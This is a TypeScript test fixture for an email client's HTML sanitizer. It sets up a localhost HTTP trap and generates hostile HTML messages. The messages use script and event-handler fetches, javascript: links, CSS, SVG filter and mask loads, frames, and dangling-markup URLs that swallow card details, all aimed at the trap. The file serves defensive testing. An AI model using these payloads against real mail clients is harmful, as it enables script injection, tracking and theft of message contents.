/**
 * Hostile HTML mail and the trap that proves it stays harmless: an HTTP listener on 127.0.0.1
 * that every trick in the message points at. Zero connections to it means no script ran and no
 * remote content loaded; the message also posts to `parent` from each script, which the page
 * records (see TRAP_INIT_SCRIPT).
 */
import http from 'node:http';
import type net from 'node:net';

export class Trap {
  /** Paths requested (one per HTTP request). */
  readonly hits: string[] = [];
  /** TCP connections, requests or not (a preconnect counts too). */
  connections = 0;
  port = 0;
  private readonly server = http.createServer((req, res) => {
    this.hits.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'image/gif' }).end();
  });
  private readonly sockets = new Set<net.Socket>();

  async start(): Promise<number> {
    this.server.on('connection', (s) => {
      this.connections++;
      this.sockets.add(s);
      s.once('close', () => this.sockets.delete(s));
    });
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', () => resolve()));
    this.port = (this.server.address() as net.AddressInfo).port;
    return this.port;
  }

  get origin(): string {
    return `http://127.0.0.1:${this.port}`;
  }

  async stop(): Promise<void> {
    for (const s of this.sockets) s.destroy();
    await new Promise<void>((resolve) => this.server.close(() => resolve()));
  }
}

/** The visible sentence of the hostile message: proves it rendered at all. */
export const HOSTILE_SENTENCE = 'Where is my order 302-9990001-0000001? Please check the tracking link below.';

/** Every way an HTML mail could run code or reach the network, each aimed at the trap. */
export function hostileHtml(trap: string): string {
  const js = (tag: string) => `fetch('${trap}/${tag}');parent.postMessage('pwned:${tag}','*');document.title='pwned'`;
  return `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${trap}/meta-refresh">
<base href="${trap}/base/">
<link rel="stylesheet" href="${trap}/link-stylesheet">
<link rel="prefetch" href="${trap}/link-prefetch">
<style>
  @import url(${trap}/css-import);
  @font-face { font-family: Evil; src: url(${trap}/css-font); }
  body { background: url("${trap}/css-background"); font-family: Evil, sans-serif; }
</style>
<script>${js('script')}</script>
<script src="${trap}/script-src"></script>
</head><body onload="${js('body-onload')}">
<p>${HOSTILE_SENTENCE}</p>
<img src="${trap}/pixel" width="1" height="1" alt="">
<img src="nonexistent.png" onerror="${js('img-onerror')}" alt="broken">
<img srcset="${trap}/srcset 2x" alt="">
<div style="background-image: url('${trap}/inline-style')">Styled box</div>
<iframe src="${trap}/iframe"></iframe>
<object data="${trap}/object"></object>
<embed src="${trap}/embed">
<video poster="${trap}/video-poster" src="${trap}/video"></video>
<svg onload="${js('svg-onload')}"><image href="${trap}/svg-image"/></svg>
<form action="${trap}/form" method="post"><input name="card" value="4111" autofocus onfocus="${js('input-onfocus')}"><button type="submit">Confirm payment</button></form>
<a href="javascript:${js('javascript-link')}">Track my parcel</a>
<a href="${trap}/plain-link">Order status</a>
</body></html>`;
}

/**
 * Runs in the app page before its scripts: records every postMessage the page receives, so a
 * script that ran inside the mail frame would show up even though the frame cannot touch us.
 */
export const TRAP_INIT_SCRIPT = `
  window.__pwned = [];
  window.addEventListener('message', (e) => { if (typeof e.data === 'string' && e.data.startsWith('pwned:')) window.__pwned.push(e.data); });
`;

/** What a dangling URL would carry away: the words of the message that follow it. */
export const DANGLING_SECRET = 'Card 4111 1111 1111 1111 for Dana Roe';

/**
 * The ways past the sanitizer that were open with remote content allowed, aimed at the trap: URLs left open so they
 * swallow the message after them (dangling markup, on one line, where Chromium's own guard does not apply, and
 * across lines, where it does), a quote inside a URL, and SVG filters, clip paths and masks by url(), which fetch a
 * document, not an image. Paths under /ok- are the controls: an image, a background in a style attribute and in a
 * style sheet and a font, which allowed remote content must load (so the zero of the others is not vacuous).
 */
export function danglingHtml(trap: string): string {
  const rest = (n: number) => `<p>${DANGLING_SECRET} (${n})</p><p class="sig" title='x'>Dana</p>`;
  return `<!doctype html><html><head>
<style>
  @font-face { font-family: Okfont; src: url(${trap}/ok-font) format("woff2"); }
  body { font-family: Okfont, sans-serif; }
  .sheet { background-image: url("${trap}/ok-sheet-background"); filter: url("${trap}/filter-sheet.svg#f"); }
</style></head><body>
<p>${HOSTILE_SENTENCE}</p>
<img src="${trap}/ok-image" width="2" height="2" alt="">
<div style="background-image: url(${trap}/ok-inline-background); filter: url(${trap}/filter-inline.svg#f)">Filtered</div>
<div class="sheet">Filtered by the style sheet</div>
<div style="clip-path: url(${trap}/clip.svg#c); mask: url(${trap}/mask.svg#m)">Clipped</div>
<svg width="9" height="9"><filter id="f"><feImage href="${trap}/feimage"/></filter><rect width="9" height="9" filter="url(${trap}/filter-attr.svg#f)"/></svg>
<img src='${trap}/dangling-img-one-line?q=${rest(1)}
<img src="${trap}/dangling-img-lines?q=
${rest(2)}
<table background="${trap}/dangling-table?q=${rest(3)}<tr><td>x</td></tr></table>
<img srcset='${trap}/dangling-srcset?q=${rest(4)}
<div style='background-image: url("${trap}/dangling-style?q=${rest(5)}">x</div>
<img src="${trap}/dangling-quote?x'y" alt="quote">
<img src="nonexistent.png" onerror="parent.postMessage('pwned:onerror','*')" alt="broken">
<script>parent.postMessage('pwned:script','*')</script>
<p>End of message.</p>
</body></html>`;
}

/** A frameset-only HTML body: nothing is left once frames are removed, so the text alternative must show. */
export function framesetHtml(trap: string): string {
  return `<!doctype html><html><head><title>Your order</title></head>
<frameset cols="50%,50%"><frame src="${trap}/frame-left"><frame src="${trap}/frame-right"></frameset></html>`;
}
